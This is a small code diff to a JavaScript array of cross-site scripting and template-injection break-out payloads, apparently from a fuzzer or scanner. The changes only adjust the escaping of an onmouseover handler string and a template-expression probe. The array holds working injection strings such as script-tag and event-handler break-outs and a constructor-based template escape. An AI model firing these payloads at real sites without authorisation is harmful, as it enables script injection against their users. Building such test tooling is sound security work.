@@ -98,7 +98,7 @@ const BREAK_OUTS = [
   `'><script>${RUN}</script>`,
   `" autofocus onfocus="${RUN}`,
   `' autofocus onfocus='${RUN}`,
-  "` onmouseover=`" + RUN,
+  `\` onmouseover=\`${RUN}`,
   `</title><script>${RUN}</script>`,
   `</textarea><script>${RUN}</script>`,
   `</option></select><script>${RUN}</script>`,
@@ -120,7 +120,7 @@ const BREAK_OUTS = [
   "${" + RUN + "}",
   "`${" + RUN + "}`",
   "{{constructor.constructor('" + RUN + "')()}}",
-  "{{7*7}} <%= 7*7 %> #{7*7} ${{7*7}} [[7*7]]",
+  `{{7*7}} <%= 7*7 %> #{7*7} \${{7*7}} [[7*7]]`,
 ];
 
 const ENCODINGS = [
